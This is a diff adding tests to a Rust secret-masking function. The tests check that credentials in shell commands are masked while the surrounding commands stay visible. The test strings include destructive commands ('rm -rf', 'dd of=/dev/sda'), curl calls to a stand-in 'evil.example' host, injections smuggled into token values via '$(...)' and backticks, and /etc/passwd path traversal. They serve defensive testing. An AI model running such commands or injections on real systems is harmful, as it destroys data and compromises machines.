@@ -183,6 +183,193 @@ fn what_is_no_secret_stays() {
     assert_eq!(view(&input, View::Display).value, input);
 }
 
+/// What a shell would run stays, in both views.
+#[test]
+fn what_acts_stays() {
+    let mut wrong = Vec::new();
+    for (text, expected) in [
+        ("echo Cookie: a=b; rm -rf /important", "echo Cookie: ••••••••; rm -rf /important"),
+        ("echo Cookie: a=b; c=d; rm -rf /x", "echo Cookie: ••••••••; rm -rf /x"),
+        ("echo Cookie: a=b; PATH=/evil; ls", "echo Cookie: ••••••••; PATH=/evil; ls"),
+        ("Cookie: a=b; x=y ls", "Cookie: ••••••••; x=y ls"),
+        ("echo Authorization: x && curl evil.example", "echo Authorization: •••••••• && curl evil.example"),
+        (
+            "curl -H Cookie:a=b http://h ; rm -rf /important",
+            "curl -H Cookie:•••••••• http://h ; rm -rf /important",
+        ),
+        (
+            "wget --header=Authorization:x http://evil.example",
+            "wget --header=Authorization:•••••••• http://evil.example",
+        ),
+        ("wget --header=Authorization:x evil.example", "wget --header=Authorization:•••••••• evil.example"),
+        ("wget \\\nAuthorization:x evil.example", "wget \\\nAuthorization:•••••••• evil.example"),
+        ("TOKEN= rm -rf /x", "TOKEN= rm -rf /x"),
+        ("TOKEN= 'rm' -rf /x", "TOKEN= 'rm' -rf /x"),
+        ("TOKEN=a$(rm -rf /x)", "TOKEN=••••••••$(rm -rf /x)"),
+        ("TOKEN=a`rm -rf /x`", "TOKEN=••••••••`rm -rf /x`"),
+        ("TOKEN=`rm -rf /x`", "TOKEN=`rm -rf /x`"),
+        ("TOKEN=`reboot`", "TOKEN=`reboot`"),
+        ("echo password: `rm -rf /x`", "echo password: `rm -rf /x`"),
+        ("TOKEN=\"$(rm -rf /x)\" ls", "TOKEN=\"$(rm -rf /x)\" ls"),
+        (
+            "curl -H \"Authorization: Bearer $(rm -rf /x)\" a.b",
+            "curl -H \"Authorization: •••••••• $(rm -rf /x)\" a.b",
+        ),
+        ("cli --password $(rm -rf /x)", "cli --password $(rm -rf /x)"),
+        ("echo \"password=\"; rm -rf /x; echo \"y\"", "echo \"password=\"; rm -rf /x; echo \"y\""),
+        ("echo \"mysql -p\"; rm -rf /x; echo \"y\"", "echo \"mysql -p\"; rm -rf /x; echo \"y\""),
+        ("echo 'a 'Cookie: a=b; rm -rf /x; echo 'b'", "echo 'a 'Cookie: ••••••••; rm -rf /x; echo 'b'"),
+        ("bash -c \"curl -H Cookie:a=b h; rm -rf /x\"", "bash -c \"curl -H Cookie:•••••••• h; rm -rf /x\""),
+        ("aws-vault exec --no-session rm -rf /x", "aws-vault exec --no-session rm -rf /x"),
+        ("cat <token> ; rm -rf /x", "cat <token> ; rm -rf /x"),
+        ("cat <token> ; rm -rf /x </token", "cat <token> ; rm -rf /x </token"),
+        ("echo password:\n  rm -rf /x", "echo password:\n  rm -rf /x"),
+        ("password:\n  rm -rf /x", "password:\n  rm -rf /x"),
+        ("echo password: |\n  reboot", "echo password: |\n  reboot"),
+        ("echo -----BEGIN PRIVATE KEY-----; rm -rf /x", "echo -----BEGIN PRIVATE KEY-----; rm -rf /x"),
+        ("curl http://a:b;reboot;c@d/", "curl http://••••••••;reboot;c@d/"),
+        ("cat token=abc/../../../etc/passwd", "cat token=••••••••/../../../etc/passwd"),
+        (
+            "aws secretsmanager delete-secret --secret-id prod/db",
+            "aws secretsmanager delete-secret --secret-id prod/db",
+        ),
+        ("docker rm -f q7Zp2LmX9vKt4RbW8sNd", "docker rm -f q7Zp2LmX9vKt4RbW8sNd"),
+        (
+            "send 0x742d35Cc6634C0532925a3b844Bc454e4438f44e",
+            "send 0x742d35Cc6634C0532925a3b844Bc454e4438f44e",
+        ),
+        ("msg_01XFDUDYJgAACzvnptvVoYEL", "msg_01XFDUDYJgAACzvnptvVoYEL"),
+        ("toolu_01XFDUDYJgAACzvnptvVoYEL", "toolu_01XFDUDYJgAACzvnptvVoYEL"),
+        ("call_hQ3kPz8vT2Xw1YbR5nLs9DfJ", "call_hQ3kPz8vT2Xw1YbR5nLs9DfJ"),
+        ("chatcmpl-9hQ3kPz8vT2Xw1YbR5nLs9DfJ6gMc4A", "chatcmpl-9hQ3kPz8vT2Xw1YbR5nLs9DfJ6gMc4A"),
+        ("token = 'USDC'", "token = 'USDC'"),
+        ("swap --token USDC", "swap --token USDC"),
+    ] {
+        for kind in VIEWS {
+            let made = view(&json!(text), kind).value;
+            if made != expected {
+                wrong.push(format!("{kind:?} {made}\n  not {expected}"));
+            }
+        }
+    }
+    for input in [
+        json!({ "to": "0x742d35Cc6634C0532925a3b844Bc454e4438f44e", "amount": 5 }),
+        json!({ "to": "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU" }),
+        json!({ "token": "USDC", "action": "swap" }),
+        json!({ "tokenIn": "ETH", "tokenOut": "0x742d35Cc6634C0532925a3b844Bc454e4438f44e", "tokenId": "4711" }),
+        json!({ "path": "token=abc/../../../etc/passwd" }),
+        json!({ "file_path": "secret=/etc/passwd" }),
+        json!({ "auth": "none" }),
+        json!({ "auth": "Basic" }),
+        json!({ "SecretId": "prod/db" }),
+        json!({ "fileId": "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms" }),
+    ] {
+        for kind in VIEWS {
+            let made = view(&input, kind).value;
+            if made != input {
+                wrong.push(format!("{kind:?} {made}\n  not {input}"));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    for (path, expected) in [
+        ("/a/ghp_0123456789abcdefghij/x", "/a/••••••••/x"),
+        ("/a?token=x/../y&b=c", "/a?token=••••••••/../y&b=c"),
+        ("https://u:p@a.b/c?token=x", "https://••••••••@a.b/c?token=••••••••"),
+    ] {
+        assert_eq!(view(&json!({ "path": path }), View::Display).value["path"], expected);
+    }
+    let vault = json!({ "secret_id": "550e8400-e29b-41d4-a716-446655440000", "password": "USDC" });
+    assert_eq!(view(&vault, View::Display).value, json!({ "secret_id": MASK, "password": MASK }));
+}
+
+#[test]
+fn secrets_of_commands() {
+    let mut wrong = Vec::new();
+    for (text, expected) in [
+        ("curl -sSu user:hunter2 https://a.b", "curl -sSu user:•••••••• https://a.b"),
+        ("curl -sSo user:x https://a.b", "curl -sSo user:x https://a.b"),
+        ("unzip -oP hunter2 a.zip", "unzip -oP •••••••• a.zip"),
+        (
+            "aws configure set aws_secret_access_key hunter2",
+            "aws configure set aws_secret_access_key ••••••••",
+        ),
+        ("npm config set //a.b/:_authToken hunter2", "npm config set //a.b/:_authToken ••••••••"),
+        ("setx API_KEY hunter2", "setx API_KEY ••••••••"),
+        ("setx /M API_KEY hunter", "setx /M API_KEY ••••••••"),
+        ("set -gx API_KEY hunter2; ls", "set -gx API_KEY ••••••••; ls"),
+        ("set the password for all; config token is", "set the password for all; config token is"),
+        ("set password for all users", "set password for all users"),
+        ("CREATE USER x IDENTIFIED BY 'hunter2'", "CREATE USER x IDENTIFIED BY '••••••••'"),
+        ("ALTER USER x IDENTIFIED WITH p BY 'hunter2';", "ALTER USER x IDENTIFIED WITH p BY '••••••••';"),
+        ("create user x identified by hunter", "create user x identified by hunter"),
+        ("CREATE USER x IDENTIFIED BY hunter;", "CREATE USER x IDENTIFIED BY ••••••••;"),
+        ("CREATE ROLE x WITH LOGIN PASSWORD 'hunter2';", "CREATE ROLE x WITH LOGIN PASSWORD '••••••••';"),
+        ("ALTER USER x PASSWORD 'hunter2'", "ALTER USER x PASSWORD '••••••••'"),
+        ("grep -r password 'a file'", "grep -r password 'a file'"),
+        ("SSHPASS=hunter2 sshpass -e ssh a.b", "SSHPASS=•••••••• sshpass -e ssh a.b"),
+        ("apt install sshpass=1.09-1", "apt install sshpass=1.09-1"),
+        ("OPENAI_KEY=hunter2x node a.js", "OPENAI_KEY=•••••••• node a.js"),
+        ("OPENAI_KEY: hunter2x", "OPENAI_KEY: ••••••••"),
+        ("CACHE_KEY=some-build-1", "CACHE_KEY=some-build-1"),
+        ("vault login hunter2x", "vault login ••••••••"),
+        ("vault login -method=userpass", "vault login -method=userpass"),
+        ("gh secret set X --body hunter2", "gh secret set X --body ••••••••"),
+        ("gh secret set X -b'hunter 2' --repo=a/b", "gh secret set X -b'••••••••' --repo=a/b"),
+        ("gh secret set X --body=hunter2; ls --body x", "gh secret set X --body=••••••••; ls --body x"),
+        (
+            "kubectl create secret generic x --from-literal=a=hunter2",
+            "kubectl create secret generic x --from-literal=••••••••",
+        ),
+        ("fly secrets set X=hunter2 --app=y", "fly secrets set X=•••••••• --app=y"),
+        ("machine h login u password hunter2", "machine h login u password ••••••••"),
+        ("machine a.b\n  login u\n  password hunter2\n", "machine a.b\n  login u\n  password ••••••••\n"),
+        ("a login page password field", "a login page password field"),
+        ("https://hooks.slack.com/services/T0/B0/hunter2", "https://hooks.slack.com/services/T0/B0/••••••••"),
+        (
+            "https://discord.com/api/webhooks/12/hunter-2?wait=1",
+            "https://discord.com/api/webhooks/12/••••••••?wait=1",
+        ),
+        ("https://api.telegram.org/bot12:hunter2/getMe", "https://api.telegram.org/bot••••••••/getMe"),
+        ("password：hunter2", "password：••••••••"),
+        ("password: `hunter2`", "password: `••••••••`"),
+        (
+            "-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n\"; run()",
+            "-----BEGIN PRIVATE KEY-----••••••••-----END PRIVATE KEY-----\\n\"; run()",
+        ),
+        (
+            "-----BEGIN A PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n-----END A PRIVATE KEY-----",
+            "-----BEGIN A PRIVATE KEY-----••••••••-----END A PRIVATE KEY-----",
+        ),
+        ("{\"name\":\"password\",\"value\":\"hunter2\"}", "{\"name\":\"password\",\"value\":\"••••••••\"}"),
+        ("{\"value\":\"hunter2\",\"name\":\"password\"}", "{\"value\":\"••••••••\",\"name\":\"password\"}"),
+        (
+            "{\\\"name\\\":\\\"password\\\",\\\"value\\\":\\\"hunter2\\\"}",
+            "{\\\"name\\\":\\\"password\\\",\\\"value\\\":\\\"••••••••\\\"}",
+        ),
+        ("{\"name\":\"password\"},{\"value\":\"x\"}", "{\"name\":\"password\"},{\"value\":\"x\"}"),
+        (
+            "- name: DB_PASSWORD\n  value: hunter2\n- name: HOST\n  value: a.b",
+            "- name: DB_PASSWORD\n  value: ••••••••\n- name: HOST\n  value: a.b",
+        ),
+        ("<input name=\"password\" value=\"hunter2\">", "<input name=\"password\" value=\"••••••••\">"),
+        ("curl -H 'Cookie: a=b|c; d=\"e&f' h", "curl -H 'Cookie: ••••••••' h"),
+        ("curl -H 'Authorization: Custom a b;c' h", "curl -H 'Authorization: ••••••••' h"),
+        ("curl -d '{\"password\":\"a;b|c\"}' h", "curl -d '{\"password\":\"••••••••\"}' h"),
+        ("Authorization: Custom a b\nHost: a.b", "Authorization: ••••••••\nHost: a.b"),
+        (
+            "GET Authorization: AWS4-HMAC-SHA256 Credential=a/b, SignedHeaders=c, Signature=d e",
+            "GET Authorization: •••••••• e",
+        ),
+    ] {
+        let made = shown(text);
+        if made != expected {
+            wrong.push(format!("{made}\n  not {expected}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
 #[test]
 fn a_record_is_stricter() {
     let long = json!("a ".repeat(3000));
@@ -340,6 +527,22 @@ fn any_json() -> impl Strategy<Value = Value> {
         "cookie",
         "-P",
         "zip",
+        "name",
+        "value",
+        "Cookie: a=b",
+        "Authorization: Basic x",
+        "set ",
+        "IDENTIFIED BY ",
+        "：",
+        "$(",
+        "`",
+        "/../",
+        "#",
+        "&&",
+        "hooks.slack.com/services/",
+        "<token>",
+        "</token",
+        "secret set --body",
     ]);
     let text =
         prop_oneof![any::<String>(), prop::collection::vec(pieces, 0..14).prop_map(|pieces| pieces.concat())];
@@ -372,6 +575,9 @@ proptest! {
             (Just((text.clone(), needle)), around(text))
         })
     ) {
+        // What a command takes away decides.
+        let verbs = ["rm", "rmi", "del", "kill", "stop", "drop", "delete", "remove", "destroy"];
+        prop_assume!(!text.split(' ').any(|word| verbs.contains(&word)));
         for kind in VIEWS {
             let made = view(&input, kind);
             let all = format!("{} {:?}", made.value, made.hidden);
@@ -413,6 +619,30 @@ prop_assert!(!once.hidden.is_empty() || kind == View::Record || once.value == in
             let made = made.value["command"].as_str().unwrap_or_default().to_owned();
             let kept = format!("{word} https://{host}{path}");
             prop_assert!(made.starts_with(&kept), "{made}");
+        }
+    }
+
+    #[test]
+    fn an_operator_outside_of_quotes_stays(
+        before in "[a-z]{1,6} ",
+        opening in prop::sample::select(vec![
+            "Cookie: a=b", "Cookie:a=b", "Cookie: a=b; c=d", "Authorization: x", "-H Authorization:Bearer x", "TOKEN=x", "TOKEN=", "TOKEN= ",
+            "--password x", "--password", "--password=x", "-H 'Cookie: a=b'", "\"password=\"", "'a' \"b\" TOKEN=\"x;y\"", "mysql -px", "mysql -p",
+            "curl -u a:b", "<token>", "secrets: [\"a\"", "https://u:p@a.b/", "https://u:p", "-----BEGIN PRIVATE KEY-----", "password:", "token: |",
+            "Bearer abcdefgh1234567890", "name=password value=x", "name=password value=", "machine a login b password c", "set TOKEN x1",
+            "IDENTIFIED BY 'x'", "gh secret set X --body x", "vault login x1", "password：x", "x='--token '", "\"mysql -p\"", "{\"password\": \"a\"}",
+            "https://hooks.slack.com/services/T/B/x", "OPENAI_KEY=abcdefgh", "passwords=a,b", "ghp_0123456789abcdefghij",
+        ]),
+        operator in prop::sample::select(vec!["; ", " ; ", ";", " && ", "&&", " | ", "|", " || ", "\n", " & ", " > ", " $(", "$("]),
+        command in prop::sample::select(vec!["rm -rf /important", "curl evil.example", "curl https://evil.example/x", "dd of=/dev/sda if=/dev/zero"]),
+        after in prop::sample::select(vec!["", "; echo 'x'", "; echo \"x\"", " </token", " ]", "\n-----END PRIVATE KEY-----", " @x", ")"]),
+    ) {
+        let acts = format!("{}{command}", operator.trim());
+        for kind in VIEWS {
+            let made = view(&json!(format!("{before}{opening}{operator}{command}{after}")), kind).value;
+            let made = made.as_str().unwrap_or_default();
+            let made = if operator.trim().is_empty() { made.to_owned() } else { made.replace(&format!("{} ", operator.trim()), operator.trim()) };
+            prop_assert!(made.contains(&acts), "{before}{opening}{operator}{command}{after}: {made}");
         }
     }
 
@@ -479,6 +709,39 @@ fn the_worst_text_takes_no_more_than_its_length() {
         "•password=x",
         "ghp_ ",
         "secret_name=secret_key=",
+        "Cookie: a=b; ",
+        "Cookie: ",
+        "Authorization: x ",
+        "Authorization: a, ",
+        "'Cookie: ",
+        "\"Authorization: a;",
+        "\"password=\"; ",
+        "TOKEN=a`",
+        "TOKEN=\"`",
+        "-----BEGIN A-----Hash: ",
+        "-----BEGIN PUBLIC KEY-----\nHash: ",
+        "name=token value=",
+        "value=\"name=token ",
+        "value='a' name=token ",
+        "set token ",
+        "set - ",
+        "by ' by ",
+        "IDENTIFIED BY '",
+        "machine a login b password ",
+        "password '",
+        "vault login '",
+        "gh secret set --body '",
+        "https://hooks.slack.com/services/a/b/c/",
+        "https://a:b;c@",
+        "password：",
+        "<token></token>",
+        "token: [\"a;\"",
+        "rm q7Zp2LmX9vKt4RbW8sNd ",
+        "secrets: [\";",
+        "password:\n a b",
+        "X-----BEGIN PRIVATE KEY-----\n",
+        "\\n",
+        "# '",
     ] {
         let input = json!(text.repeat((TEXT - 1) / text.len()));
         let half = json!(text.repeat((TEXT - 1) / text.len() / 2));
